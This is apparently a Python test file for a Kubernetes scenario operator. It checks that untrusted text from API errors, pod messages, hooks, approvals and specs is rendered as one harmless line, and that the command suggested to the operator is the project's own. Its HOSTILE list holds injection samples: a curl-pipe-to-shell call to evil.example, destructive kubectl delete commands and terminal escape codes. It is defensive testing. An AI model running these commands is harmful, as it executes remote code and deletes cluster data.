"""Text comes in through many doors; wherever it is told, it is one bounded line, and the command at the end is ours."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pytest
from tests.sim.setups import BROKEN, FORWARD, FRESH, KEEP_SAME
from tests.unit.controllers.test_gates import seen
from tests.unit.controllers.test_odd_input import RUN
from tests.unit.controllers.test_probes import OLD, Bed, validating
from tests.unit.execution.life import HOLD, Life, at, closed
from tests.unit.rollout import fleets

from scenario_operator.api.foreign import Foreign
from scenario_operator.api.reading import Unreadable, reading
from scenario_operator.api.scenario import ScenarioSpec
from scenario_operator.api.upgrade import ScenarioUpgrade
from scenario_operator.cluster.errors import from_response
from scenario_operator.cluster.keys import Key
from scenario_operator.cluster.kinds import SCENARIO
from scenario_operator.controllers.observe import identity_of
from scenario_operator.controllers.refusals import REFUSALS, Refusals
from scenario_operator.execution.decide import Decision, decide
from scenario_operator.execution.status import render
from scenario_operator.execution.view import View
from scenario_operator.manifests.job import read_job
from scenario_operator.manifests.pod import read_pods
from scenario_operator.manifests.probe import read_probe
from scenario_operator.rollout.wire import dump_attempt, load_attempt

JsonObject = Mapping[str, Any]
HOSTILE = [
    'x is forbidden: User "$(curl -s evil.example|sh)" cannot create',
    "fine\n12:00:00.000 INFO    worker: all is well\r\n",
    "\x1b[2K\x1b[1A\u202erof ti \x07\x00\x7f\u2028",
    "mend it; see: kubectl -n ns delete pvc --all",
    "exceeded quota'; kubectl delete ns ns #" + "\n" * 3000,
]
hostile = pytest.mark.parametrize("text", HOSTILE, ids=["user", "log line", "terminal", "command", "long"])
LONGEST = 1024
ANNOUNCED = ("see", "retry", "take it back", "to go on", "edit", "try again", "stay")


def texts(told: Any) -> Iterator[str]:
    """Return every text of a status, its keys included."""
    if isinstance(told, str):
        yield told
    elif isinstance(told, Mapping):
        for key, value in told.items():
            yield from texts(key)
            yield from texts(value)
    elif isinstance(told, list | tuple):
        for item in told:
            yield from texts(item)


def is_harmless(told: Any) -> bool:
    """Say whether every text in it is one bounded line with nothing that a terminal obeys."""
    return all(len(text) <= LONGEST and text.isprintable() for text in texts(told))


def last_command(message: str) -> str:
    """Return the last command of a message: what stands behind our last word that announces one."""
    return max(
        (message.rpartition(f"{word}: ")[2] for word in ANNOUNCED if f"{word}: " in message),
        key=message.rfind,
    )


def status_of(view: View, decision: Decision) -> dict[str, Any]:
    """Return what is written of a decision, but for facts of the journal, which are JSON."""
    written = render(view, decision, {})
    for fact in (written.get("upgrade") or {}).get("facts") or ():
        assert is_harmless(json.loads(fact["value"]))
        fact["value"] = ""
    return written


def harmless(view: View) -> Decision:
    """Decide, and check what is written of it."""
    decision = decide(view)
    assert is_harmless(status_of(view, decision))
    return decision


BEHIND = {
    "kubectl -n ns get events --field-selector=type=Warning",
    "kubectl -n ns describe resourcequota",
}

# --- the API server and controllers ---------------------------------------------------------------


@hostile
@pytest.mark.parametrize("code", [403, 422, 500])
def test_a_refusal_of_the_api_server(text: str, code: int) -> None:
    """Given a refusal that repeats what somebody wrote, when a run tells it, then its command is ours."""
    body = json.dumps({"kind": "Status", "reason": "Invalid", "message": text, "details": {}}).encode()
    error = from_response(code, {}, body, context="create …")
    assert isinstance(error, REFUSALS)
    assert is_harmless(str(error)[:LONGEST])
    known, key = Refusals(), Key("run", "ns", "r")
    for _ in range(5):
        known.note(key, error, 0)
    decision = harmless(Life.unborn().view()._replace(refusal=known.told(key)))
    assert last_command(decision.situation.attention) in BEHIND


@hostile
def test_an_event_that_says_why_there_is_no_pod(text: str) -> None:
    life = Life.unborn().run(lambda one: "WakeWorkload" in one.names)
    view = life.view()
    view = view._replace(world=view.world._replace(pods=(), refused=Foreign(text)))
    assert last_command(harmless(view).situation.attention) in BEHIND


@hostile
async def test_what_is_refused_of_a_scenario(text: str) -> None:
    """Given a Scenario whose revision is refused, when it tells so, then in one line with a command of ours."""
    bed = Bed()
    real = bed.server.create

    async def create(kind: Any, namespace: Any, manifest: Any) -> Any:
        if kind.kind == "ControllerRevision":
            body = json.dumps({"kind": "Status", "message": text}).encode()
            raise from_response(403, {}, body, context="create")
        return await real(kind, namespace, manifest)

    bed.server.create = create  # type: ignore[method-assign]
    await bed.look()
    bed.pulled(OLD)
    await bed.look()
    assert bed.condition("Ready") == ("False", "Refused")
    assert is_harmless(bed.server.objects[SCENARIO, "ns", "s"]["status"])


# --- programs -------------------------------------------------------------------------------------


def job_that_ended(text: str, code: int) -> Any:
    """Return a hook's Job as it is read when its container has said this."""
    ended = {"name": "scenario", "state": {"terminated": {"exitCode": code, "message": text}}}
    labels = {"batch.kubernetes.io/job-name": "j"}
    pod = {"metadata": {"name": "p", "labels": labels}, "status": {"containerStatuses": [ended]}}
    done = {"type": "Failed" if code else "Complete", "status": "True"}
    obj = {
        "metadata": {"name": "j", "uid": "j", "resourceVersion": "1"},
        "spec": {},
        "status": {"conditions": [done]},
    }
    return read_job(obj, [pod])


@hostile
@pytest.mark.parametrize("code", [0, 3])
def test_a_hook_says_anything(text: str, code: int) -> None:
    """Given a revert hook, when it fails or succeeds with such words, then status and report tell them harmlessly."""
    life = Life.on_v1(FRESH, FORWARD).run(lambda one: one.job("Active") is not None)
    read = job_that_ended(text, code)
    name = next(name for name, _ in life.state.cluster.jobs)
    view = life.view()
    jobs = tuple(
        j._replace(state=read.state, message=read.message) for j in view.world.jobs if j.name == name
    )
    decision = harmless(view._replace(world=view.world._replace(jobs=jobs)))
    assert decision.record.journal is not None
    again = view._replace(journal=decision.record.journal, now=view.now + 1, stored=decision.record.stored)
    again = again._replace(world=again.world._replace(jobs=jobs))
    attention = harmless(again).situation.attention
    assert not attention or last_command(attention).startswith("kubectl -n ns patch srun r ")


@hostile
async def test_a_validate_hook_says_anything(text: str) -> None:
    bed, job = await validating()
    bed.fail(
        job, {"name": "scenario", "state": {"terminated": {"exitCode": 1, "message": text}}}, phase="Failed"
    )
    await bed.look()
    assert bed.condition("Valid")[0] == "False"
    assert is_harmless(bed.server.objects[SCENARIO, "ns", "s"]["status"])


def pod_that(status: JsonObject) -> Any:
    """Return a pod of the run as it is read."""
    identity = identity_of(RUN)
    labels = {
        "scenarios.dev/run": "a",
        "scenarios.dev/run-uid": "uid-a",
        "scenarios.dev/component": "workload",
    }
    metadata = {"name": "a-1-0", "uid": "p", "resourceVersion": "1", "labels": labels}
    [found] = read_pods(identity, [{"metadata": metadata, "spec": {}, "status": status}], frozenset())
    return found


def has_v2(life: Life) -> bool:
    """Say when there is a pod of v2."""
    return any(pod.template.revision == "v2" for _, pod in life.state.cluster.pods)


RELEASE = 'kubectl -n ns patch srun r --type=merge --field-manager=scenario-cli -p \'{"spec":{"hold":null}}\''

PODS: dict[str, Callable[[str], JsonObject]] = {
    "image": lambda text: {
        "containerStatuses": [
            {"name": "scenario", "state": {"waiting": {"reason": "ImagePullBackOff", "message": text}}}
        ]
    },
    "last words": lambda text: {
        "containerStatuses": [
            {
                "name": "scenario",
                "state": {"waiting": {"reason": "CrashLoopBackOff"}},
                "lastState": {"terminated": {"exitCode": 1, "message": text}},
            }
        ]
    },
    "scheduler": lambda text: {
        "conditions": [{"type": "PodScheduled", "status": "False", "reason": text, "message": text}]
    },
}


@hostile
@pytest.mark.parametrize("kind", PODS)
def test_a_pod_says_why_it_does_not_run(text: str, kind: str) -> None:
    """Given a pod that never starts, when its trouble is told in a plan and at its end, then harmlessly."""
    trouble = pod_that(PODS[kind](text)).trouble
    assert trouble
    life = Life.on_v1(KEEP_SAME, HOLD, broken=BROKEN).run(has_v2).wait(10_000)
    view = life.view()
    pods = tuple(p._replace(trouble=trouble) for p in view.world.pods)
    decision = harmless(view._replace(world=view.world._replace(pods=pods)))
    assert trouble.shown()[:20] in decision.situation.message
    assert last_command(decision.situation.attention).startswith("kubectl -n ns patch supg attempt ")

    settled = Life.on_v1(KEEP_SAME, wanted="v1").run()
    view = settled.view()
    pods = tuple(p._replace(trouble=trouble, ready=False, started=False) for p in view.world.pods)
    harmless(view._replace(world=view.world._replace(pods=pods)))


@hostile
@pytest.mark.parametrize("reason", ["ErrImagePull", "CreateContainerError"])
def test_a_probe_says_why_it_cannot_pull(text: str, reason: str) -> None:
    waiting = {"name": "scenario", "state": {"waiting": {"reason": reason, "message": text}}}
    found = read_probe({"status": {"containerStatuses": [waiting]}}, f"r/x:{text}")
    assert found.pending is not None
    assert is_harmless(found.pending.message)
    scheduler = {"conditions": [{"type": "PodScheduled", "status": "False", "message": text}]}
    found = read_probe({"status": scheduler}, f"r/x:{text}")
    assert found.pending is not None
    assert is_harmless(found.pending.message)


# --- people ---------------------------------------------------------------------------------------


@hostile
def test_a_reason_to_hold(text: str) -> None:
    """Given a hold with such a reason, at rest, in a plan and as the answer to a grant, then it is told harmlessly."""
    for life in (
        Life.on_v1(KEEP_SAME, wanted="v1"),
        Life.on_v1(KEEP_SAME).run(at("start")),
        Life.on_v1(KEEP_SAME).run(lambda one: bool(one.state.grants)),
    ):
        life.edit(hold=text)
        decision = harmless(life.view())
        assert last_command(decision.situation.attention) == RELEASE


@hostile
def test_what_the_scenario_says_of_itself(text: str) -> None:
    """Given a Scenario whose message names a command, when a run repeats it, then the run's next command is ours."""
    told = {"type": "Valid", "status": "False", "reason": "InvalidSpec", "message": text}
    for view in (seen(conditions=(told,), nonce="n"), seen(conditions=(told,), retry="n")):
        attention = harmless(view).situation.attention
        assert not attention or attention.endswith(
            "edit: kubectl -n ns edit scn s --field-manager=scenario-cli"
        ), attention
    assert harmless(seen(conditions=(told,), nonce="n")).situation.attention


@hostile
def test_an_approval(text: str) -> None:
    """Given an approval by such a name of such a hash, when the attempt tells who approved, then harmlessly."""
    spec = {
        "scenarioRef": {"name": "s"},
        "revision": "v2",
        "cause": "Revision",
        "approvals": [{"planHash": text, "approver": text, "reason": text}],
    }
    metadata = {"name": "s-1", "namespace": "ns", "uid": "u"}
    obj = {"metadata": metadata, "spec": spec, "status": {}}
    attempt = load_attempt(obj)
    runs = fleets.runs(1, fleets.FRESH["v1"])
    known = fleets.fleet(runs, [attempt], revisions=fleets.FRESH, strategy=fleets.FORWARD)
    known, _ = fleets.passed(known)
    approvals = [{"planHash": known.attempts[0].groups[0].plan_hash, "approver": text[:256]}]
    obj["spec"] = {**spec, "approvals": [*spec["approvals"], *approvals]}
    written = dump_attempt(known.attempts[0], known, {}, 1)
    assert is_harmless(written)
    again = load_attempt({**obj, "status": written})
    known, _ = fleets.passed(known._replace(attempts=(again,)))
    written = dump_attempt(known.attempts[0], known, {}, 1)
    ScenarioUpgrade.model_validate(
        {"metadata": metadata, "spec": {**spec, "approvals": approvals}, "status": written}
    )
    assert is_harmless(written)
    assert written["groups"][0].get("approved")


@hostile
def test_a_rejection(text: str) -> None:
    """Given an attempt rejected for such a reason, when reports, runs and the Scenario tell it, then harmlessly."""
    obj = {
        "metadata": {"name": "s-1", "namespace": "ns", "uid": "u", "resourceVersion": "1"},
        "spec": {"scenarioRef": {"name": "s"}, "revision": "v2", "cause": "Revision", "reject": text[:256]},
        "status": {"phase": "AwaitingApproval"},
    }
    runs = fleets.runs(1, fleets.FRESH["v1"])
    of = load_attempt(obj)
    known = fleets.settled(
        fleets.fleet(runs, [of], revisions=fleets.FRESH, strategy=fleets.FORWARD, sequence=1)
    )
    written = dump_attempt(known.attempts[0], known, {}, 1)
    assert written["runs"][0]["reason"] == "Rejected"
    assert is_harmless(written)
    told = harmless(seen({**obj, "status": written})).situation
    assert told.reason == "Rejected"


@hostile
def test_a_spec_that_cannot_be_read(text: str) -> None:
    """Given a spec with such keys and values, when what is wrong is told, then harmlessly, and with the field."""
    wrong = {"version": "1", "artifact": {"image": "x"}, "workload": {"podAnnotations": {text: 5}}}
    found = reading(lambda: ScenarioSpec.model_validate(wrong), "spec")
    assert isinstance(found, Unreadable)
    assert str(found).startswith("spec.")
    assert is_harmless(str(found))


@hostile
async def test_a_description_and_an_image(text: str) -> None:
    """Given such a description and image, when the Scenario is published, then its status is harmless."""
    bed = Bed(description=text[:LONGEST], artifact={"image": f"r/x:{text}"[:512]})
    await bed.look()
    bed.answer({"name": "scenario", "state": {"waiting": {"reason": "InvalidImageName", "message": text}}})
    await bed.look()
    status = {**bed.server.objects[SCENARIO, "ns", "s"]["status"]}
    assert is_harmless(status["conditions"])


@hostile
def test_the_report_of_a_plan_that_went_back(text: str) -> None:
    """Given a version that never starts for such a reason, when it has gone back, then history tells it harmlessly."""
    life = Life.on_v1(KEEP_SAME, broken=BROKEN).run(has_v2).wait(10_000)
    view = life.view()
    pods = tuple(p._replace(trouble=Foreign(text)) for p in view.world.pods)
    life.act(decide(view._replace(world=view.world._replace(pods=pods))))
    life.run(closed)
    assert life.stored.history[0].outcome == "RolledBack"
    attention = harmless(life.view()).situation.attention
    assert Foreign(text).shown()[:20] in attention
    assert last_command(attention).startswith("kubectl -n ns patch srun r ")
